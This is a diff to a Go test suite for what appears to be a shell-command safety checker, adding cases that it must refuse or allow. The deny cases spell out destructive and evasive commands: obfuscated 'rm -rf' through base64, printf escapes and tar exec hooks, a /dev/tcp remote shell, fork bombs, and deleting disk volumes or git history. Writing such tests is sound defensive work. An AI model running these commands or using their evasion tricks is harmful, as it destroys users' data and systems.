@@ -38,6 +38,41 @@ func TestPeerClasses(t *testing.T) {
 		deny(`ruby -e "require 'fileutils'; FileUtils.rm_rf('/opt/app')"`, "outside the project"),
 		deny("ruby -e '`rm -rf ~`'", "runs the shell command"),
 		deny(`node -e "rm -rf ~"`, "read as shell code"),
+		deny(`python3 -c "$CODE"`, "not a literal"), // formerly a known gap: code that is not a literal
+		deny("echo \"$CODE\" | python3", "not a literal"),
+		deny(`python3 -c "import base64, os; os.system(base64.b64decode(p).decode())"`, "computed when it runs"),
+		deny(`python3 -c "import subprocess; subprocess.run(['rm', '-rf', '/home/user'])"`, "holds the project"),
+		deny("printf '%s' 'rm -rf ~' | sh", "holds the project"),
+		deny("printf '\\x72\\x6d -rf ~' | bash", "holds the project"),
+		deny("printf '%b' 'rm\\040-rf\\040~' | sh", "holds the project"),
+		deny("printf '%d' 1 | sh", "not a literal"),
+		deny("tar -cf x.tar -I 'rm -rf ~' src", "holds the project"),
+		deny("tar -cf out.tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' src", "holds the project"),
+		deny("declare -l T=RM; \"$T\" -rf /", "not a literal"),
+		deny("A=rm; declare A=echo B=$A; \"$B\" -rf ~", "holds the project"),
+		deny("T=echo; source ./env.sh; \"$T\" -rf /", "not a literal"),
+		deny("exec 3<<<'rm -rf /'; source /dev/fd/3", "file descriptor"),
+		deny("bash < /dev/tcp/$HOST/4444", "/dev/tcp"),
+		deny("while [ true ]; do work & done", "fork bomb"),
+		deny("until /usr/bin/false; do work & done", "fork bomb"),
+		deny("while [[ 1 ]]; do work & done", "fork bomb"),
+		deny("lvremove vg/data", "disk"),
+		deny("zpool destroy tank", "disk"),
+		deny("rm -f .git/packed-refs", "git history"),
+		deny("echo x > .git/refs/heads/main", "git history"),
+		deny("rm -rf .git/worktrees", "git history"),
+		deny("git gc --p=now", "cannot be recovered"),
+		deny("git -c gc.pruneExpire=now gc", "cannot be recovered"),
+		deny("git filter-branch -f -- --all", "rewrites the repository's history"),
+		deny("git filter-repo --force", "rewrites the repository's history"),
+		allow("printf '%s\\n' 'echo hi' | sh"),
+		allow("zpool status"),
+		allow("lvm lvs"),
+		allow("tar -czf out.tgz src"),
+		allow("declare -r X=1; echo $X"),
+		allow("source .venv/bin/activate && rm -rf build"),
+		allow(`python3 -c "import subprocess; subprocess.run(['go', 'test', './...'])"`),
+		allow(`python3 -c "import platform; print(platform.system())"`),
 		allow(`python3 -c "import shutil; shutil.rmtree('build')"`), // inside the project
 		allow(`python3 -c "import shutil; shutil.rmtree('/tmp/cache')"`),
 		allow(`python3 -c "print('rm -rf is dangerous')"`), // a literal that is not a command
@@ -205,5 +240,33 @@ func TestUnparseable(t *testing.T) {
 		if r == nil || r.Program != "" || !strings.Contains(r.What, "could not parse") || !strings.Contains(r.What, "nothing in it was found dangerous") {
 			t.Errorf("%q: %v, want a could-not-parse refusal", cmd, r)
 		}
+	}
+}
+
+// TestFindPerFile: find running a deleting or permission-changing program on every file a search
+// from outside the project finds is a recursive one there.
+func TestFindPerFile(t *testing.T) {
+	check(t,
+		deny("find / -exec chmod 000 {} +", "every file found"),
+		deny("find ~ -name '*.log' -exec rm {} \\;", "every file found"),
+		deny("find /etc -type f -exec chown nobody {} +", "every file found"),
+		allow("find . -name '*.o' -exec rm {} +"),
+		allow("find src -type f -exec chmod 644 {} +"),
+		allow("find / -name '*.conf' -exec grep -l listen {} +"),
+	)
+}
+
+// TestParamDefault: ${V:-default} resolves as the shell does when V is known.
+func TestParamDefault(t *testing.T) {
+	ctx := testContext()
+	ctx.TempDir = "/tmp"
+	check(t, allow("D=; rm -rf ${D:-build}"), allow("rm -rf ${HOME:-/}/proj/build"))
+	for _, cmd := range []string{"rm -rf ${OUT:-/}", "D=; rm -rf ${D:-/}", "rm -rf ${UNSET:-build}"} {
+		if judgeText(cmd, ctx) == nil {
+			t.Errorf("%q: allowed, want refused", cmd)
+		}
+	}
+	if r := judgeText("rm -rf ${TMPDIR:-/tmp}/build", ctx); r != nil {
+		t.Errorf("with TMPDIR=/tmp: refused (%s)", r.Error())
 	}
 }
